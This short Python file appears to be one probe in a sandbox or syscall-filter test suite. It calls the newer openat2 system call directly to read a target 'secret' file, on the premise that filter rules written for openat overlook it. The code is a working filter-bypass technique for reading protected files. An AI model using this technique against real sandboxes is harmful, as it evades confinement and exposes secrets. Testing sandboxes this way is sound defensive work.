"""Opens outside by the newer call, which rules for openat forget. Source: openat2(2)."""

import ctypes
import os
import struct

from probe import TARGET, attempt, syscall


def read():
    how = ctypes.create_string_buffer(struct.pack("=3Q", os.O_RDONLY, 0, 0))
    return os.read(syscall("openat2", -100, ctypes.c_char_p(TARGET["secret"].encode()), how, 24), 100)


attempt("openat2", read)
